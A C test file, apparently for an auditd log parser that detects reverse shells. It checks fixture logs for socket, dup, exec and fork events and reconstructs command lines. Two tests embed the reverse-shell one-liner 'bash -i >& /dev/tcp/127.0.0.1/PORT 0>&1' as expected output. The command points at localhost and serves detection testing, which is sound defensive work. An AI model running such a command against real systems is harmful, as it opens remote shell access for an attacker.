/* The shell's exec, then the attacker's `id` in a child of the shell that exits with 0. */
static bool shell_ran_id(const struct evlog *l, const struct tech *t)
{
	char shell[64], id[64];
	long x, c;

	snprintf(shell, sizeof(shell), "execve pid=%u ", t->shell);
	snprintf(id, sizeof(id), " ppid=%u ", t->shell);
	x = FIND(l, shell, "exe=/usr/bin/");
	c = x < 0 ? -1 : find_from(l, (size_t)x, id, "exe=/usr/bin/id argv=id => 0", (const char *)NULL);
	if (c < 0)
		return false;
	snprintf(shell, sizeof(shell), "exit pid=%u ", l->e[c].ev.pid);
	return find_from(l, (size_t)c, shell, " code=0", (const char *)NULL) > c;
}

static void check_technique(const struct evlog *l, const struct tech *t)
{
	bool dup3 = false, fcntl = false;
	int dups = stdio_dups(l, t, &dup3, &fcntl);
	long s = sock_event(l, t);

	CHECKF(s >= 0, "%s: no socket event for port %u / peer %s", t->name, t->port, t->peer);
	CHECKF(forked_first(l, t->root) && forked_first(l, t->shell), "%s: root %u or shell %u not "
	       "announced by a fork before its first event", t->name, t->root, t->shell);
	CHECKF(shell_ran_id(l, t), "%s: shell %u: no exec or no `id` child", t->name, t->shell);
	CHECKF(!strcmp(t->kind, "lineage") || dups >= 2, "%s: %d dups onto stdio", t->name, dups);
	CHECKF(strcmp(t->name, "c_dup3_fcntl") || (dup3 && fcntl), "%s: dup3 %d fcntl %d", t->name,
	       dup3, fcntl);
	CHECKF(s < 0 || (l->e[s].ev.has_uid && l->e[s].ev.uid == 0 && l->e[s].ev.has_time &&
			 l->e[s].ev.t_ns > 1700000000ull * 1000000000ull && l->e[s].ev.comm.len > 0),
	       "%s: %s", t->name, s >= 0 ? l->e[s].text : "");
}

static int read_manifest(struct tech *t, int max)
{
	FILE *f = fixture("auditd_reverse_shells.manifest");
	char line[256];
	int n = 0;

	while (f && n < max && fgets(line, sizeof(line), f))
		if (line[0] != '#' && sscanf(line, "%31s %15s %u %u %u %31s %u", t[n].name, t[n].kind,
					     &t[n].root, &t[n].shell, &t[n].port, t[n].peer,
					     &t[n].listener) == 7)
			n++;
	if (f)
		fclose(f);
	return n;
}

static void test_fixture_shells(void)
{
	struct tech t[16];
	int n = read_manifest(t, 16);
	struct evlog l;
	struct sw_read_stats st;
	struct auditd_event_stats es;
	char argv[128];

	CHECKF(n >= 7, "manifest: %d techniques", n);
	CHECK(read_fixture("auditd_reverse_shells.log.gz", &l, &st, &es) == 0);
	CHECK(st.bad == 0 && es.other_arch == 0 && l.n > 1000);
	for (int i = 0; i < n; i++)
		check_technique(&l, &t[i]);
	/* bash_tcp: the launcher's command line, hex in the log, joined as it was */
	for (int i = 0; i < n; i++)
		if (!strcmp(t[i].name, "bash_tcp")) {
			snprintf(argv, sizeof(argv), "argv=\"bash -c bash -i >& /dev/tcp/127.0.0.1/%u 0>&1\"",
				 t[i].port);
			CHECK(FIND(&l, "execve pid=", "exe=/usr/bin/bash", argv) >= 0);
		}
	evlog_free(&l);
}

/* ev.comm is borrowed: compare it while the event is alive. Here: comm= reached the facts. */
static int comm_seen(void *ctx, const struct sw_event *ev)
{
	int *n = ctx;

	*n += ev->comm.len > 0 && sw_event_arg(ev, "comm") &&
	      sw_str_eq(ev->comm, *sw_event_arg(ev, "comm"));
	return 0;
}

static void test_fixture_comm(void)
{
	FILE *f = fixture("auditd_reverse_shells.log.gz");
	struct sw_read_stats st = { 0 };
	struct errcap err;
	int n = 0;

	errcap_begin(&err);
	CHECK(f && auditd_read_events(f, "x", false, comm_seen, &n, &st, NULL) == 0);
	errcap_end(&err);
	CHECKF((uint64_t)n + 200 > st.events && n > 1000, "%d of %llu", n,
	       (unsigned long long)st.events);  /* all but forks of processes seen only by ppid */
	if (f)
		fclose(f);
}

/* The ENRICHED capture reads like its RAW form (everything after 0x1d cut). */
static void test_fixture_enriched(void)
{
	FILE *f = fixture("auditd_benign.log.gz"), *raw = tmpfile();
	char *line = NULL;
	size_t cap = 0, enriched = 0;
	ssize_t n;
	struct evlog a, b;
	struct sw_read_stats st;
	struct auditd_event_stats es;
	struct errcap err;
	bool same = true;

	while (f && raw && (n = getline(&line, &cap, f)) >= 0) {
		char *gs = memchr(line, 0x1d, (size_t)n);

		enriched += gs != NULL;
		fprintf(raw, "%.*s\n", (int)(gs ? gs - line : n - 1), line);
	}
	free(line);
	if (f)
		fclose(f);
	CHECK(enriched > 100);
	CHECK(read_fixture("auditd_benign.log.gz", &a, &st, &es) == 0 && st.bad == 0 && a.n > 100);
	rewind(raw);
	memset(&b, 0, sizeof(b));
	errcap_begin(&err);
	CHECK(auditd_read_events(raw, "raw", false, collect, &b, &st, NULL) == 0);
	errcap_end(&err);
	fclose(raw);
	CHECK(a.n == b.n);
	for (size_t i = 0; i < a.n && i < b.n; i++)
		same &= !strcmp(a.e[i].text, b.e[i].text);
	CHECK(same);
	/* the local web server's accept and its client's connect; the echo's arguments as bytes */
	CHECK(FIND(&a, "accept4 pid=", "family=inet addr=127.0.0.1 port=") >= 0);
	CHECK(FIND(&a, "connect pid=", "comm=python3 fd=3 family=inet addr=127.0.0.1 port=") >= 0);
	CHECK(FIND(&a, "execve pid=", "exe=/usr/bin/echo argv=\"/bin/echo a b x\\ty\" argl=9,3,3 => 0") >=
	      0);
	CHECK(es.threads >= 1);   /* python's thread (clone3): no fork of a process */
	evlog_free(&a);
	evlog_free(&b);
}

/* A clone3 child that never has an event of its own (a thread) is not announced as a process. */
static void test_fixture_threads(void)
{
	FILE *f = fixture("auditd_benign.log.gz");
	char *line = NULL, *log = NULL;
	size_t cap = 0, len = 0;
	ssize_t n;
	struct evlog l;
	struct sw_read_stats st;
	int threads = 0, wrong = 0;

	while (f && (n = getline(&line, &cap, f)) >= 0) {
		log = realloc(log, len + (size_t)n + 1);
		memcpy(log + len, line, (size_t)n + 1);
		len += (size_t)n;
	}
	free(line);
	if (f)
		fclose(f);
	CHECK(log && read_fixture("auditd_benign.log.gz", &l, &st, NULL) == 0);
	for (const char *p = log; p && (p = strstr(p, " syscall=435 success=yes exit=")); p++) {
		unsigned child = (unsigned)atoi(p + 30);
		char pid[32], fork[32];

		snprintf(pid, sizeof(pid), " pid=%u ", child);
		snprintf(fork, sizeof(fork), "child=%u", child);
		if (strstr(log, pid))
			continue;
		threads++;
		wrong += FIND(&l, fork) >= 0;
	}
	CHECK(threads >= 1 && wrong == 0);
	free(log);
	evlog_free(&l);
}

/* `score -f auditd` on the capture: the same join, shell-quoted. */
struct cmds {
	int n;
	bool found;
	char want[128];
};

static void on_cmd(void *ctx, const struct auditd_exec *ex)
{
	struct cmds *c = ctx;
	char cmd[512];

	c->n++;
	auditd_cmdline(ex, cmd, sizeof(cmd));
	c->found |= !strcmp(cmd, c->want);
}

static void test_fixture_score_path(void)
{
	struct tech t[16];
	int n = read_manifest(t, 16);
	struct cmds c = { 0 };
	struct auditd_reader *r = auditd_new(on_cmd, &c);
	FILE *f = fixture("auditd_reverse_shells.log.gz");
	char *line = NULL;
	size_t cap = 0;
	ssize_t k;

	for (int i = 0; i < n; i++)
		if (!strcmp(t[i].name, "bash_tcp"))
			snprintf(c.want, sizeof(c.want), "bash -c 'bash -i >& /dev/tcp/127.0.0.1/%u 0>&1'",
				 t[i].port);
	while (f && (k = getline(&line, &cap, f)) >= 0)
		auditd_feed_line(r, line, (size_t)(k && line[k - 1] == '\n' ? k - 1 : k));
	auditd_finish(r);
	CHECK(c.n > 300 && c.found && auditd_stats(r)->partial_events == 0);
	free(line);
	if (f)
		fclose(f);
	auditd_free(r);
}

int main(void)
{
	RUN(test_simple);
	RUN(test_hex_and_quoting);
	RUN(test_split_records);
	RUN(test_incomplete_and_bad);
	RUN(test_many_pending);
	RUN(test_connect_raw_and_enriched);
	RUN(test_accept_inet6_unix);
	RUN(test_dups);
	RUN(test_exec);
	RUN(test_exec_cwd);
	RUN(test_forks);
	RUN(test_arches);
	RUN(test_bad_and_strict);
	RUN(test_bad_shown_once);
	RUN(test_bounded);
	RUN(test_fixture_shells);
	RUN(test_fixture_comm);
	RUN(test_fixture_enriched);
	RUN(test_fixture_threads);
	RUN(test_fixture_score_path);
	return tap_done();
}
